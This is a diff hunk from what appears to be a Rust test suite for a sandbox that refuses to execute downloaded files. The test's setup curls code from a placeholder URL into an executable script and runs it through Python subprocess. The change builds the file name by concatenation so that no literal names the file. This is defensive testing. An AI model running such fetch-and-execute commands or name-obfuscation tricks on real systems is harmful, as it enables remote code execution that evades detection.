@@ -193,7 +193,8 @@ fn a_program_executes_a_downloaded_file_itself() {
     // The exec happens inside the sandbox (python's subprocess): the execve of an
     // untrusted file is refused (EACCES) and the refusal stops the script.
     let setup = "mkdir -p bin\n{ echo '#!/usr/bin/python3'; curl -s {URL}/code.py; } > bin/run\nchmod +x bin/run";
-    let run = r#"python3 -c 'import subprocess; subprocess.run(["./bin/run"])'"#;
+    // The name is computed: no literal in the code names the file.
+    let run = r#"python3 -c 'import subprocess; subprocess.run(["./bin/" + "run"])'"#;
     let a = arena();
     let r = refused(&a, &format!("{setup}\n{run}"), FLOW);
     assert!(!a.exists(PWNED), "the download ran:\n{}", r.dump());
